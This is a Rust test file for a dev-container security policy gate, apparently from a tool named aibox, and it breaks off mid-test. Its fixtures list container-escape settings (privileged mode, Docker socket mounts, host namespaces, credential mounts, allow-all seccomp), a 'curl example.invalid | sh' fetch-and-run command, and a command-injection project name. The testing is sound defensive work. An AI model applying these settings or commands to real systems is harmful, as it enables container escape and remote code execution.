//! The policy gate: each rule refused (or warned) without consent, accepted with consent,
//! and found wherever it appears (generated file, override file, devcontainer.json,
//! `runArgs`, configured volumes).

// Helpers outside `#[test]` functions unwrap too: a failure there is a test failure.
#![allow(clippy::unwrap_used)]

use std::fmt::Write as _;

use aibox_config::layout::SECCOMP_PROFILE_NESTED;
use aibox_config::{ExtraVolume, SecurityException};
use aibox_policy::{
    Consent, Finding, Severity, check_compose, check_devcontainer_json, check_run_args,
    check_seccomp_profile, check_volumes, generated_profile, has_errors,
};

const GENERATED: &str = ".devcontainer/docker-compose.yml";
const OVERRIDE: &str = ".devcontainer/docker-compose.override.yml";
const DEVCONTAINER: &str = ".devcontainer/devcontainer.json";

struct Case {
    name: &'static str,
    /// Lines under the service (4-space indented YAML).
    compose: &'static str,
    /// A devcontainer.json member, or "" when the option has no devcontainer form.
    devcontainer: &'static str,
    /// `runArgs` form, or empty.
    run_args: &'static [&'static str],
    code: &'static str,
    /// The `[[security.exceptions]]` option that accepts it.
    option: &'static str,
}

const CASES: &[Case] = &[
    Case {
        name: "privileged",
        compose: "    privileged: \"true\"\n",
        devcontainer: "\"privileged\": true",
        run_args: &["--privileged"],
        code: "aibox::policy::privileged",
        option: "privileged",
    },
    Case {
        name: "cap_add SYS_ADMIN",
        compose: "    cap_add: [CAP_SYS_ADMIN]\n",
        devcontainer: "\"capAdd\": [\"SYS_ADMIN\"]",
        run_args: &["--cap-add", "sys_admin"],
        code: "aibox::policy::cap_add",
        option: "cap_add:SYS_ADMIN",
    },
    Case {
        name: "cap_add ALL",
        compose: "    cap_add:\n      - ALL\n",
        devcontainer: "\"capAdd\": [\"ALL\"]",
        run_args: &["--cap-add=all"],
        code: "aibox::policy::cap_add",
        option: "cap_add:ALL",
    },
    Case {
        name: "apparmor unconfined",
        compose: "    security_opt:\n      - apparmor:unconfined\n",
        devcontainer: "\"securityOpt\": [\"apparmor=unconfined\"]",
        run_args: &["--security-opt", "apparmor=unconfined"],
        code: "aibox::policy::apparmor_unconfined",
        option: "apparmor=unconfined",
    },
    Case {
        name: "systempaths unconfined",
        compose: "    security_opt: [\"systempaths=unconfined\"]\n",
        devcontainer: "\"securityOpt\": [\"systempaths=unconfined\"]",
        run_args: &["--security-opt=systempaths=unconfined"],
        code: "aibox::policy::systempaths_unconfined",
        option: "systempaths=unconfined",
    },
    Case {
        name: "SELinux label disabled",
        compose: "    security_opt: [\"label:disable\"]\n",
        devcontainer: "\"securityOpt\": [\"label=disable\"]",
        run_args: &["--security-opt", "label=disable"],
        code: "aibox::policy::selinux_disabled",
        option: "label=disable",
    },
    Case {
        name: "host network",
        compose: "    network_mode: host\n",
        devcontainer: "",
        run_args: &["--net", "host"],
        code: "aibox::policy::host_namespace",
        option: "network_mode:host",
    },
    Case {
        name: "network namespace by path (Podman)",
        compose: "    network_mode: \"ns:/proc/1/ns/net\"\n",
        devcontainer: "",
        run_args: &["--network=ns:/proc/1/ns/net"],
        code: "aibox::policy::host_namespace",
        option: "network_mode:ns",
    },
    Case {
        name: "pid namespace by path (Podman)",
        compose: "    pid: \"ns:/proc/1/ns/pid\"\n",
        devcontainer: "",
        run_args: &["--pid", "ns:/proc/1/ns/pid"],
        code: "aibox::policy::host_namespace",
        option: "pid:ns",
    },
    Case {
        name: "socket folder read-only",
        compose: "    volumes:\n      - /run/containerd:/x:ro\n",
        devcontainer: "\"mounts\": [\"source=/run/containerd,target=/x,type=bind,readonly\"]",
        run_args: &["-v", "/run/containerd:/x:ro"],
        code: "aibox::policy::engine_socket",
        option: "mount:/run/containerd",
    },
    Case {
        name: "host pid",
        compose: "    pid: \"host\"\n",
        devcontainer: "",
        run_args: &["--pid=host"],
        code: "aibox::policy::host_namespace",
        option: "pid:host",
    },
    Case {
        name: "docker socket (short form)",
        compose: "    volumes:\n      - /var/run/docker.sock:/var/run/docker.sock\n",
        devcontainer: "\"mounts\": [\"source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind\"]",
        run_args: &["-v", "/var/run/docker.sock:/var/run/docker.sock"],
        code: "aibox::policy::engine_socket",
        option: "mount:/var/run/docker.sock",
    },
    Case {
        name: "podman socket (long form, interpolated)",
        compose: "    volumes:\n      - type: bind\n        source: /run/user/1000/podman/podman.sock\n        target: /run/podman.sock\n",
        devcontainer: "\"mounts\": [{\"source\": \"/run/user/1000/podman/podman.sock\", \"target\": \"/run/p.sock\", \"type\": \"bind\"}]",
        run_args: &[
            "--mount",
            "type=bind,source=/run/user/1000/podman/podman.sock,target=/run/p.sock",
        ],
        code: "aibox::policy::engine_socket",
        option: "mount:/run/user/1000/podman/podman.sock",
    },
    Case {
        name: "host home writable",
        compose: "    volumes:\n      - ~:/host-home\n",
        devcontainer: "\"mounts\": [\"source=${localEnv:HOME},target=/host-home,type=bind\"]",
        run_args: &["--volume=$HOME:/host-home:rw"],
        code: "aibox::policy::home_mount",
        option: "mount:~",
    },
    Case {
        name: "~/.ssh writable",
        compose: "    volumes:\n      - $HOME/.ssh:/home/aibox/.ssh\n",
        devcontainer: "\"mounts\": [\"source=${localEnv:HOME}/.ssh,target=/home/aibox/.ssh,type=bind\"]",
        run_args: &["-v", "~/.ssh/:/home/aibox/.ssh"],
        code: "aibox::policy::credential_mount",
        option: "mount:~/.ssh",
    },
    Case {
        name: "/etc mounted",
        compose: "    volumes:\n      - /etc:/host-etc:ro\n",
        devcontainer: "\"workspaceMount\": \"source=/etc,target=/workspace,type=bind\"",
        run_args: &["-v", "/etc/../etc:/x:ro"],
        code: "aibox::policy::sensitive_mount",
        option: "mount:/etc",
    },
    Case {
        name: "other seccomp profile",
        compose: "    security_opt:\n      - seccomp=./my-profile.json\n",
        devcontainer: "\"securityOpt\": [\"seccomp=./my-profile.json\"]",
        run_args: &["--security-opt", "seccomp=./my-profile.json"],
        code: "aibox::policy::seccomp_profile",
        option: "seccomp=./my-profile.json",
    },
    Case {
        name: "build entitlement",
        compose: "    build:\n      context: .\n      entitlements: [security.insecure]\n",
        devcontainer: "",
        run_args: &[],
        code: "aibox::policy::build_entitlement",
        option: "build.entitlements:security.insecure",
    },
    Case {
        name: "raw disk device",
        compose: "    devices:\n      - /dev/sda:/dev/xvda:rwm\n",
        devcontainer: "",
        run_args: &["--device", "/dev/sda:/dev/xvda"],
        code: "aibox::policy::devices",
        option: "devices:/dev/sda",
    },
    Case {
        name: "device cgroup rule",
        compose: "    device_cgroup_rules: ['a *:* rwm']\n",
        devcontainer: "",
        run_args: &["--device-cgroup-rule=a *:* rwm"],
        code: "aibox::policy::device_cgroup_rule",
        option: "device_cgroup_rules:a *:* rwm",
    },
    Case {
        name: "SELinux spc_t label",
        compose: "    security_opt:\n      - label=type:spc_t\n",
        devcontainer: "\"securityOpt\": [\"label=type:spc_t\"]",
        run_args: &["--security-opt", "label=type:spc_t"],
        code: "aibox::policy::security_label",
        option: "label=type:spc_t",
    },
    Case {
        name: "other AppArmor profile",
        compose: "    security_opt: [\"apparmor:my-loose-profile\"]\n",
        devcontainer: "\"securityOpt\": [\"apparmor=my-loose-profile\"]",
        run_args: &["--security-opt=apparmor=my-loose-profile"],
        code: "aibox::policy::security_label",
        option: "apparmor=my-loose-profile",
    },
    Case {
        name: "cap_add NET_ADMIN",
        compose: "    cap_add: [NET_ADMIN]\n",
        devcontainer: "\"capAdd\": [\"NET_ADMIN\"]",
        run_args: &["--cap-add", "CAP_NET_ADMIN"],
        code: "aibox::policy::cap_add",
        option: "cap_add:NET_ADMIN",
    },
    Case {
        name: "cap_add SYS_PTRACE",
        compose: "    cap_add:\n      - sys_ptrace\n",
        devcontainer: "\"capAdd\": [\"SYS_PTRACE\"]",
        run_args: &["--cap-add=SYS_PTRACE"],
        code: "aibox::policy::cap_add",
        option: "cap_add:SYS_PTRACE",
    },
    Case {
        name: "cap_add NET_RAW",
        compose: "    cap_add: [CAP_NET_RAW]\n",
        devcontainer: "\"capAdd\": [\"NET_RAW\"]",
        run_args: &["--cap-add", "NET_RAW"],
        code: "aibox::policy::cap_add",
        option: "cap_add:NET_RAW",
    },
    Case {
        name: "cap_add unknown",
        compose: "    cap_add: [SYS_FUTURE]\n",
        devcontainer: "\"capAdd\": [\"SYS_FUTURE\"]",
        run_args: &["--cap-add", "SYS_FUTURE"],
        code: "aibox::policy::cap_add",
        option: "cap_add:SYS_FUTURE",
    },
    Case {
        name: "sysctls (mapping)",
        compose: "    sysctls:\n      net.ipv4.ip_forward: 1\n",
        devcontainer: "",
        run_args: &["--sysctl", "net.ipv4.ip_forward=1"],
        code: "aibox::policy::sysctl",
        option: "sysctls:net.ipv4.ip_forward",
    },
    Case {
        name: "sysctls (list)",
        compose: "    sysctls:\n      - kernel.shmmax=1\n",
        devcontainer: "",
        run_args: &[],
        code: "aibox::policy::sysctl",
        option: "sysctls:kernel.shmmax",
    },
    Case {
        name: "user root",
        compose: "    user: root\n",
        devcontainer: "",
        run_args: &["--user", "root"],
        code: "aibox::policy::root_user",
        option: "user:root",
    },
    Case {
        name: "user 0:0",
        compose: "    user: \"0:0\"\n",
        devcontainer: "",
        run_args: &["-u", "0"],
        code: "aibox::policy::root_user",
        option: "user:root",
    },
    Case {
        name: "user uid 0",
        compose: "    user: 0\n",
        devcontainer: "",
        run_args: &[],
        code: "aibox::policy::root_user",
        option: "user:root",
    },
    Case {
        name: "use_api_socket",
        compose: "    use_api_socket: yes\n",
        devcontainer: "",
        run_args: &[],
        code: "aibox::policy::engine_socket",
        option: "use_api_socket",
    },
];

fn compose(body: &str) -> String {
    format!("services:\n  dev:\n    image: localhost/demo:1\n{body}")
}

fn devcontainer(member: &str) -> String {
    format!("{{\n  // generated\n  \"name\": \"demo\",\n  \"service\": \"dev\",\n  {member},\n}}\n")
}

fn with_exception(option: &str) -> Consent {
    Consent {
        exceptions: vec![SecurityException {
            option: option.to_owned(),
            reason: "fixture: tested on purpose".to_owned(),
        }],
        ..Consent::default()
    }
}

/// Consent with one exception (reason `r`) per option.
fn with_exceptions(options: &[&str]) -> Consent {
    Consent {
        exceptions: options
            .iter()
            .map(|o| SecurityException {
                option: (*o).to_owned(),
                reason: "r".to_owned(),
            })
            .collect(),
        ..Consent::default()
    }
}

fn errors_with<'a>(findings: &'a [Finding], code: &str) -> Vec<&'a Finding> {
    findings
        .iter()
        .filter(|f| f.code == code && f.severity == Severity::Error)
        .collect()
}

fn assert_refused_then_accepted(
    case: &Case,
    location: &str,
    findings: &[Finding],
    accepted: &[Finding],
) {
    let errs = errors_with(findings, case.code);
    assert!(
        !errs.is_empty(),
        "{} in {location}: not refused: {findings:#?}",
        case.name
    );
    assert!(
        errs.iter().all(|f| f.option.as_deref().is_some()),
        "{}",
        case.name
    );
    assert!(
        !has_errors(accepted),
        "{} in {location}: still refused with consent: {accepted:#?}",
        case.name
    );
    let warned: Vec<_> = accepted.iter().filter(|f| f.code == case.code).collect();
    assert!(
        warned
            .iter()
            .all(|f| f.severity == Severity::Warning && f.accepted_reason.is_some()),
        "{}: the accepted finding stays visible as a warning",
        case.name
    );
    assert!(
        !warned.is_empty(),
        "{}: accepted finding must stay visible",
        case.name
    );
}

#[test]
fn every_rule_is_refused_without_consent_and_accepted_with_it_everywhere() {
    for case in CASES {
        let text = compose(case.compose);
        for file in [GENERATED, OVERRIDE] {
            let found = check_compose(file, &text, &Consent::default());
            let accepted = check_compose(file, &text, &with_exception(case.option));
            assert_refused_then_accepted(case, file, &found, &accepted);
            assert!(found.iter().all(|f| f.file == file));
        }
        if !case.devcontainer.is_empty() {
            let text = devcontainer(case.devcontainer);
            let found = check_devcontainer_json(DEVCONTAINER, &text, &Consent::default());
            let accepted =
                check_devcontainer_json(DEVCONTAINER, &text, &with_exception(case.option));
            assert_refused_then_accepted(case, DEVCONTAINER, &found, &accepted);
        }
        if !case.run_args.is_empty() {
            let args: Vec<String> = case.run_args.iter().map(|s| (*s).to_owned()).collect();
            let found = check_run_args(DEVCONTAINER, "", &args, &Consent::default());
            let accepted = check_run_args(DEVCONTAINER, "", &args, &with_exception(case.option));
            assert_refused_then_accepted(case, "runArgs", &found, &accepted);
            // runArgs inside devcontainer.json are found as well.
            let json = devcontainer(&format!(
                "\"runArgs\": {}",
                serde_json::to_string(&args).unwrap()
            ));
            assert!(
                !errors_with(
                    &check_devcontainer_json(DEVCONTAINER, &json, &Consent::default()),
                    case.code
                )
                .is_empty(),
                "{}",
                case.name
            );
        }
    }
}

#[test]
fn refusal_messages() {
    let mut report = String::new();
    for case in CASES {
        let found = check_compose(OVERRIDE, &compose(case.compose), &Consent::default());
        let _ = writeln!(report, "## {}", case.name);
        for f in found {
            let _ = writeln!(report, "{f}");
        }
    }
    insta::assert_snapshot!("gate_refusals", report);
}

#[test]
fn seccomp_unconfined_needs_the_dedicated_key_in_the_override_too() {
    let text = compose("    security_opt:\n      - seccomp:unconfined\n");
    for file in [GENERATED, OVERRIDE] {
        let found = check_compose(file, &text, &Consent::default());
        let errs = errors_with(&found, "aibox::policy::seccomp_unconfined");
        assert_eq!(errs.len(), 1);
        assert_eq!(errs[0].line, Some(5));
        let consent = Consent {
            seccomp_unconfined: true,
            ..Consent::default()
        };
        assert!(check_compose(file, &text, &consent).is_empty());
    }
    let json = devcontainer("\"runArgs\": [\"--security-opt\", \"seccomp=unconfined\"]");
    assert!(has_errors(&check_devcontainer_json(
        DEVCONTAINER,
        &json,
        &Consent::default()
    )));
    insta::assert_snapshot!(
        "seccomp_unconfined_in_override",
        check_compose(OVERRIDE, &text, &Consent::default())[0].to_string()
    );
}

#[test]
fn the_generated_profile_needs_its_key() {
    let text = compose("    security_opt: [\"seccomp=.devcontainer/aibox-seccomp.json\"]\n");
    let project = |profile: &str| -> std::collections::BTreeMap<String, String> {
        [
            (GENERATED.to_owned(), text.clone()),
            (aibox_policy::PROFILE_PATH.to_owned(), profile.to_owned()),
            (SECCOMP_PROFILE_NESTED.to_owned(), profile.to_owned()),
        ]
        .into_iter()
        .collect()
    };
    let judge = |files: &std::collections::BTreeMap<String, String>, consent: &Consent| {
        aibox_policy::check_compose_setup(files, consent)
    };
    let genuine = project(&generated_profile().unwrap());
    assert!(has_errors(&judge(&genuine, &Consent::default())));
    let consent = Consent {
        seccomp_profile: true,
        ..Consent::default()
    };
    assert!(judge(&genuine, &consent).is_empty());
    // A look-alike file name is another profile.
    let other = compose("    security_opt: [\"seccomp=./evil-aibox-seccomp.json\"]\n");
    assert!(has_errors(&check_compose(OVERRIDE, &other, &consent)));
}

/// What the generated Compose file names: both copies of the profile, each read by one
/// kind of Compose tool.
const OURS: &str = "seccomp=.devcontainer/aibox-seccomp.json";

/// Consent to the generated profile is consent to its bytes: an allow-all file at the
/// generated profile's place, or any other path that ends like it, is refused.
#[test]
fn consent_to_the_profile_is_bound_to_its_digest() {
    let consent = Consent {
        seccomp_profile: true,
        ..Consent::default()
    };
    let allow_all = r#"{"defaultAction": "SCMP_ACT_ALLOW", "syscalls": []}"#;
    let files = |opt: &str, profile: &str| -> std::collections::BTreeMap<String, String> {
        [
            (
                GENERATED.to_owned(),
                compose(&format!("    security_opt: [\"{opt}\"]\n")),
            ),
            (aibox_policy::PROFILE_PATH.to_owned(), profile.to_owned()),
            (SECCOMP_PROFILE_NESTED.to_owned(), profile.to_owned()),
            (
                "evil/.devcontainer/aibox-seccomp.json".to_owned(),
                allow_all.to_owned(),
            ),
        ]
        .into_iter()
        .collect()
    };
    // The right place, the wrong bytes.
    let found = aibox_policy::check_compose_setup(&files(OURS, allow_all), &consent);
    let errs = errors_with(&found, "aibox::policy::seccomp_profile_edited");
    assert_eq!(errs.len(), 1, "{found:#?}");
    assert!(
        errs[0]
            .message
            .contains(&aibox_policy::sha256_hex(allow_all.as_bytes()))
    );
    // Missing altogether.
    let genuine = generated_profile().unwrap();
    for copy in [aibox_policy::PROFILE_PATH, SECCOMP_PROFILE_NESTED] {
        let mut missing = files(OURS, &genuine);
        missing.remove(copy);
        assert!(has_errors(&aibox_policy::check_compose_setup(
            &missing, &consent
        )));
        // One copy allow-all: the Compose tool that reads that copy would load it.
        let mut one_edited = files(OURS, &genuine);
        one_edited.insert(copy.to_owned(), allow_all.to_owned());
        let found = aibox_policy::check_compose_setup(&one_edited, &consent);
        assert_eq!(
            errors_with(&found, "aibox::policy::seccomp_profile_edited").len(),
            1,
            "{copy}: {found:#?}"
        );
    }
    // Look-alike paths: absolute, in another folder, reached through `..`; and the bare
    // name earlier versions wrote, which docker-compose 1.29 reads from the project root.
    for opt in [
        "seccomp=aibox-seccomp.json",
        "seccomp=/tmp/evil/.devcontainer/aibox-seccomp.json",
        "seccomp=../evil/.devcontainer/aibox-seccomp.json",
        "seccomp:~/.devcontainer/aibox-seccomp.json",
    ] {
        let found = aibox_policy::check_compose_setup(&files(opt, &genuine), &consent);
        assert_eq!(
            errors_with(&found, "aibox::policy::seccomp_profile").len(),
            1,
            "{opt}: {found:#?}"
        );
    }
    // The same files named another way are still ours.
    let found = aibox_policy::check_compose_setup(
        &files("seccomp=./.devcontainer/./aibox-seccomp.json", &genuine),
        &consent,
    );
    assert!(found.is_empty(), "{found:#?}");
}

#[test]
fn an_edited_profile_is_detected() {
    let good = generated_profile().unwrap();
    assert!(check_seccomp_profile(good.as_bytes(), None).is_empty());
    let sha = aibox_policy::sha256_hex(good.as_bytes());
    assert!(check_seccomp_profile(good.as_bytes(), Some(&sha)).is_empty());
    let edited = good.replacen("SCMP_ACT_ERRNO", "SCMP_ACT_ALLOW", 1);
    assert!(has_errors(&check_seccomp_profile(edited.as_bytes(), None)));
    assert!(has_errors(&check_seccomp_profile(
        good.as_bytes(),
        Some("00")
    )));
}

#[test]
fn initialize_command_is_refused_and_printed() {
    let json = devcontainer("\"initializeCommand\": \"curl example.invalid | sh\"");
    let found = check_devcontainer_json(DEVCONTAINER, &json, &Consent::default());
    let errs = errors_with(&found, "aibox::policy::initialize_command");
    assert_eq!(errs.len(), 1);
    assert!(errs[0].message.contains("curl example.invalid | sh"));
    assert_eq!(errs[0].line, Some(5));
    insta::assert_snapshot!("initialize_command", errs[0].to_string());
    let accepted =
        check_devcontainer_json(DEVCONTAINER, &json, &with_exception("initializeCommand"));
    assert!(!has_errors(&accepted));
}

/// The `initializeCommand` aibox generates with `[network] egress` passes, for the
/// project the file names and only as generated; an edited one, one for another name,
/// or a name that is no Compose project name (it is spliced into the command) is
/// refused like any other.
#[test]
fn only_the_generated_egress_initialize_command_passes() {
    let member = |name: &str, cmd: &str| {
        format!(
            "{{\n  \"name\": {},\n  \"service\": \"dev\",\n  \"initializeCommand\": {}\n}}\n",
            serde_json::to_string(name).unwrap(),
            serde_json::to_string(cmd).unwrap()
        )
    };
    let generated = aibox_config::container::egress_initialize_command("demo");
    assert!(
        generated.contains("--internal --disable-dns"),
        "{generated}"
    );
    let found = check_devcontainer_json(
        DEVCONTAINER,
        &member("demo", &generated),
        &Consent::default(),
    );
    assert!(found.is_empty(), "{found:#?}");
    let hostile = "demo; curl example.invalid | sh #";
    for (name, cmd) in [
        ("demo", format!("{generated}; curl example.invalid | sh")),
        ("other", generated.clone()),
        (
            hostile,
            aibox_config::container::egress_initialize_command(hostile),
        ),
    ] {
        let found = check_devcontainer_json(DEVCONTAINER, &member(name, &cmd), &Consent::default());
        assert_eq!(
            errors_with(&found, "aibox::policy::initialize_command").len(),
            1,
            "{name}: {found:#?}"
        );
    }
}

#[test]
fn narrower_options_only_warn_and_exceptions_silence_them() {
    let text = compose(
        "    cap_add: [CHOWN]\n    security_opt: [\"no-new-privileges:false\", \"apparmor=docker-default\"]\n    volumes:\n      - ~/.ssh:/home/aibox/.ssh:ro\n",
    );
    let found = check_compose(OVERRIDE, &text, &Consent::default());
    assert!(!has_errors(&found), "{found:#?}");
    let codes: Vec<&str> = found.iter().map(|f| f.code.as_str()).collect();
    assert_eq!(
        codes,
        [
            "aibox::policy::cap_add_narrow",
            "aibox::policy::no_new_privileges",
            "aibox::policy::credential_mount"
        ]
    );
    let consent = with_exceptions(&["cap_add:chown", "mount:~/.ssh", "no-new-privileges=false"]);
    assert!(check_compose(OVERRIDE, &text, &consent).is_empty());
}

/// Consent names one device, one rule, one capability, one parameter: the consent for
/// `/dev/fuse` is not consent for the raw disk, nor the old blanket `devices` option.
#[test]
fn device_and_kernel_consents_name_exactly_what_they_accept() {
    let text = compose(
        "    devices:\n      - /dev/fuse\n      - source: /dev/sda\n        target: /dev/sda\n    sysctls: [\"net.core.somaxconn=1024\"]\n    cap_add: [NET_ADMIN, SYS_PTRACE]\n",
    );
    let options = |c: &Consent| -> Vec<String> {
        check_compose(OVERRIDE, &text, c)
            .into_iter()
            .filter(|f| f.severity == Severity::Error)
            .filter_map(|f| f.option)
            .collect()
    };
    assert_eq!(
        options(&Consent::default()),
        [
            "cap_add:NET_ADMIN",
            "cap_add:SYS_PTRACE",
            "devices:/dev/fuse",
            "devices:/dev/sda",
            "sysctls:net.core.somaxconn"
        ]
    );
    assert_eq!(
        options(&with_exceptions(&[
            "devices",
            "devices:/dev/fuse",
            "cap_add:NET_ADMIN"
        ])),
        [
            "cap_add:SYS_PTRACE",
            "devices:/dev/sda",
            "sysctls:net.core.somaxconn"
        ]
    );
    // Every refusal names its own key and the exact way to record it.
    for f in check_compose(OVERRIDE, &text, &Consent::default()) {
        let option = f.option.clone().unwrap();
        assert!(
            f.remedy
                .contains(&format!("[[security.exceptions]] option = \"{option}\"")),
            "{f}"
        );
    }
}

/// `[container] user = "root"` is refused until consent names `user:root`.
#[test]
fn a_root_container_user_is_refused_until_consented() {
    let config = aibox_config::parse_aibox_toml(
        "[container]\nname = \"demo\"\nuser = \"root\"\nuid = 0\n",
        "aibox.toml",
    )
    .unwrap();
    let found = aibox_policy::check_container_user(&config, &Consent::default());
    assert_eq!(
        errors_with(&found, "aibox::policy::root_user").len(),
        1,
        "{found:#?}"
    );
    assert!(found[0].remedy.contains("option = \"user:root\""));
    // The remedy names the user aibox really creates when `[container]` names none.
    let default = aibox_config::parse_aibox_toml("[container]\nname = \"demo\"\n", "aibox.toml")
        .unwrap()
        .container;
    let named = format!("the default `{}`, uid {}", default.user, default.uid);
    assert!(found[0].remedy.contains(&named), "{}", found[0].remedy);
    let accepted = aibox_policy::check_container_user(&config, &with_exception("user:root"));
    assert!(!has_errors(&accepted));
    assert_eq!(
        accepted[0].accepted_reason.as_deref(),
        Some("fixture: tested on purpose")
    );
    // The root group alone is judged the same way; another group is not.
    for (gid, refused) in [(0, true), (1000, false)] {
        let config = aibox_config::parse_aibox_toml(
            &format!("[container]\nname = \"demo\"\ngid = {gid}\n"),
            "aibox.toml",
        )
        .unwrap();
        let found = aibox_policy::check_container_user(&config, &Consent::default());
        assert_eq!(has_errors(&found), refused, "gid {gid}: {found:#?}");
    }
}

/// A dev container configuration that starts the container, or runs the tools, as root
/// is refused by the same consent key as a root `[container] user`.
#[test]
fn a_devcontainer_json_running_as_root_is_refused_until_consented() {
    for (key, user) in [
        ("containerUser", "root"),
        ("remoteUser", "root"),
        ("remoteUser", "0"),
    ] {
        let json = devcontainer(&format!("\"{key}\": \"{user}\""));
        let found = check_devcontainer_json(DEVCONTAINER, &json, &Consent::default());
        assert_eq!(
            errors_with(&found, "aibox::policy::root_user").len(),
            1,
            "{key}={user}: {found:#?}"
        );
        let accepted = check_devcontainer_json(DEVCONTAINER, &json, &with_exception("user:root"));
        assert!(!has_errors(&accepted), "{key}={user}: {accepted:#?}");
    }
    let json = devcontainer("\"remoteUser\": \"aibox\", \"containerUser\": \"1000\"");
    let found = check_devcontainer_json(DEVCONTAINER, &json, &Consent::default());
    assert!(errors_with(&found, "aibox::policy::root_user").is_empty());
}

#[test]
fn safe_files_pass() {
    let text = compose(
        "    init: true\n    build:\n      context: .\n    network_mode: service:proxy\n    security_opt: [\"no-new-privileges:true\"]\n    volumes:\n      - ..:/workspace\n      - ../.aibox-home/.codex:/home/aibox/.codex\n      - cargo-cache:/home/aibox/.cargo/registry\n      - /tmp\n    env_file: [../.aibox-local.env]\n",
    );
    assert_eq!(check_compose(GENERATED, &text, &Consent::default()), vec![]);
    let json = devcontainer(
        "\"dockerComposeFile\": [\"docker-compose.yml\"], \"features\": {\"ghcr.io/devcontainers/features/node:1\": {}}, \"remoteEnv\": {\"TOKEN\": \"${localEnv:TOKEN}\"}",
    );
    // A remote feature is accepted once consent names it with the version whose
    // metadata was read (the metadata is remote).
    let consent = Consent {
        exceptions: vec![SecurityException {
            option: "feature:ghcr.io/devcontainers/features/node:1".to_owned(),
            reason: "read its devcontainer-feature.json: no container options".to_owned(),
        }],
        ..Consent::default()
    };
    let found = check_devcontainer_json(DEVCONTAINER, &json, &consent);
    assert!(!has_errors(&found), "{found:#?}");
    assert!(
        found
            .iter()
            .all(|f| f.code == "aibox::policy::remote_feature")
    );
}

#[test]
fn unpinned_features_and_includes_warn() {
    let json = devcontainer("\"features\": {\"ghcr.io/devcontainers/features/node\": {}}");
    let found = check_devcontainer_json(DEVCONTAINER, &json, &Consent::default());
    let codes: Vec<(&str, Severity)> = found
        .iter()
        .map(|f| (f.code.as_str(), f.severity))
        .collect();
    assert_eq!(
        codes,
        [
            ("aibox::policy::remote_feature", Severity::Error),
            ("aibox::policy::unpinned_feature", Severity::Warning)
        ]
    );
    let text = format!("include:\n  - other.yml\n{}", compose(""));
    let found = check_compose(OVERRIDE, &text, &Consent::default());
    assert_eq!(found[0].code, "aibox::policy::unchecked_include");
}

#[test]
fn unparsable_files_are_refused_with_a_line() {
    let found = check_compose(OVERRIDE, "services:\n  dev: [\n", &Consent::default());
    assert_eq!(found[0].code, "aibox::policy::unparsable");
    assert!(has_errors(&found));
    let found = check_devcontainer_json(DEVCONTAINER, "{\n \"a\": \n}", &Consent::default());
    assert_eq!(found[0].code, "aibox::policy::unparsable");
    assert_eq!(found[0].line, Some(3));
}

#[test]
fn configured_volumes_are_checked() {
    let vols = vec![
        ExtraVolume {
            source: "~/.aws".to_owned(),
            target: "/x".to_owned(),
            read_only: false,
        },
        ExtraVolume {
            source: "~/.aws".to_owned(),
            target: "/y".to_owned(),
            read_only: true,
        },
        ExtraVolume {
            source: "/home/alice".to_owned(),
            target: "/z".to_owned(),
            read_only: false,
        },
        ExtraVolume {
            source: "./data".to_owned(),
            target: "/data".to_owned(),
            read_only: false,
        },
        ExtraVolume {
            source: "/".to_owned(),
            target: "/host".to_owned(),
            read_only: true,
        },
        ExtraVolume {
            source: "/proc/sys".to_owned(),
            target: "/p".to_owned(),
            read_only: true,
        },
    ];
    let found = check_volumes(
        ".aibox-local.toml [[container.extra_volumes]]",
        &vols,
        &Consent::default(),
    );
    let summary: Vec<(&str, Severity)> = found
        .iter()
        .map(|f| (f.code.as_str(), f.severity))
        .collect();
    assert_eq!(
        summary,
        [
            ("aibox::policy::credential_mount", Severity::Error),
            ("aibox::policy::credential_mount", Severity::Warning),
            ("aibox::policy::home_mount", Severity::Error),
            ("aibox::policy::sensitive_mount", Severity::Error),
            ("aibox::policy::sensitive_mount", Severity::Warning),
        ]
    );
}

#[test]
fn unresolvable_sources_are_suspicious() {
    let text = compose("    volumes:\n      - ${SOMEWHERE}:/x\n");
    let found = check_compose(OVERRIDE, &text, &Consent::default());
    assert_eq!(found.len(), 1, "{found:#?}");
    assert_eq!(found[0].code, "aibox::policy::unresolved_variable");
    assert_eq!(found[0].severity, Severity::Error);
    assert_eq!(found[0].option.as_deref(), Some("env:SOMEWHERE"));
}

#[test]
fn findings_serialise_with_stable_fields() {
    let found = check_compose(
        OVERRIDE,
        &compose("    privileged: true\n"),
        &Consent::default(),
    );
    insta::assert_json_snapshot!("finding_json", found);
}

mod plan {
    use aibox_config::{LocalToml, Ownership, PlannedFile, parse_aibox_toml};
    use aibox_policy::{NoSources, PolicyError, check_plan};
    use miette::Diagnostic;

    const TOML: &str = "[container]\nname = \"demo\"\n";
    const COMPOSE_OK: &str =
        "services:\n  demo:\n    image: x\n    security_opt: [\"seccomp=unconfined\"]\n";

    fn files(compose: &str) -> Vec<PlannedFile> {
        vec![
            PlannedFile::generated(".devcontainer/docker-compose.yml", compose),
            PlannedFile::generated(".devcontainer/devcontainer.json", "{ \"name\": \"demo\" }"),
            // Local state may hold personal values: never scanned.
            PlannedFile::new(
                ".aibox-local.env",
                "GH_TOKEN=ghp_FAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKE0000\n",
                Ownership::LocalState,
            ),
            // Container-scoped harness files (personal servers) are local state as well.
            PlannedFile::new(
                ".aibox-home/.gemini/settings.json",
                "{\"mcpServers\": {\"me\": {\"env\": {\"TOKEN\": \"personal-literal\"}}}}",
                Ownership::Merged,
            ),
            PlannedFile::new(
                "context/notes/private/x.md",
                "token: ghp_FAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKE0000\n",
                Ownership::Merged,
            ),
        ]
    }

    #[test]
    fn the_plan_gate_refuses_before_writing() {
        let config = parse_aibox_toml(TOML, "aibox.toml").unwrap();
        let override_text = "services:\n  demo:\n    privileged: true\n";
        let err = check_plan(
            &config,
            &LocalToml::default(),
            &files(COMPOSE_OK),
            Some(override_text),
            &NoSources,
        )
        .unwrap_err();
        let PolicyError::Gate { findings, .. } = &err else {
            unreachable!()
        };
        let codes: Vec<&str> = findings.iter().map(|f| f.code.as_str()).collect();
        assert_eq!(
            codes,
            [
                "aibox::policy::seccomp_unconfined",
                "aibox::policy::privileged"
            ]
        );
        insta::assert_snapshot!(
            "plan_gate",
            format!(
                "code: {}\nerror: {err}\nhelp:\n{}",
                err.code().unwrap(),
                err.help().unwrap()
            )
        );
    }

    #[test]
    fn the_plan_gate_passes_with_consent_and_scans_committed_files() {
        let config = parse_aibox_toml(
            &format!("{TOML}[ai]\nharnesses = [\"codex\"]\n[security]\nacknowledge_seccomp_unconfined = true\n"),
            "aibox.toml",
        )
